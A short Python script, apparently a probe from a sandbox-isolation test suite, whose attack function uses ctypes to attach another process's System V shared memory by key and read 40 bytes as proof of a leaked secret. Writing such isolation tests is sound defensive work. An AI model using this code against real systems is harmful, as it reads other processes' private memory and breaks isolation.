# Attaches System V shared memory of another process.
# proof: secret
import ctypes


def attack(arg):
    libc = ctypes.CDLL(None)
    libc.shmat.restype = ctypes.c_void_p
    where = libc.shmat(libc.shmget(arg["key"], 64, 0), None, 0o10000)
    if where is None or where == 2**64 - 1:
        return False
    return ctypes.string_at(where, 40)
